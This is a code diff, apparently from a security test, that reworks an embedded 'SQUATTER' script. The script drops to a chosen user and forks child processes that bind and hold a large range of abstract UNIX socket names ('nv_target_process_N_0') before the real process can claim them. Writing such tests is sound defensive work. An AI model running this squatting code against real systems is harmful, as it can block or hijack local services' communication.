@@ -99,13 +99,24 @@ def refusal(s):
 SQUATTER = """
 import ctypes, os, resource, socket, sys
 first, last, user = map(int, sys.argv[1:])
-resource.setrlimit(resource.RLIMIT_NOFILE, (last - first + 100, last - first + 100))
+hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
 os.setgroups([]); os.setresgid(user, user, user); os.setresuid(user, user, user)
-held = []
-for label in range(first, last):
-    held.append(socket.socket(socket.AF_UNIX))
-    held[-1].bind("\\0nv_target_process_%d_0" % label)
-    held[-1].listen()
+each, n, up = hard - 50, 0, os.pipe()
+for begin in range(first, last, each):
+    n += 1
+    if os.fork():
+        continue
+    held = []
+    for label in range(begin, min(begin + each, last)):
+        held.append(socket.socket(socket.AF_UNIX))
+        held[-1].bind("\\0nv_target_process_%d_0" % label)
+        held[-1].listen()
+    os.write(up[1], b"x")
+    sys.stdin.read()
+    os._exit(0)
+while n:
+    n -= len(os.read(up[0], 1))
 print("ready", flush=True)
 sys.stdin.read()
 """
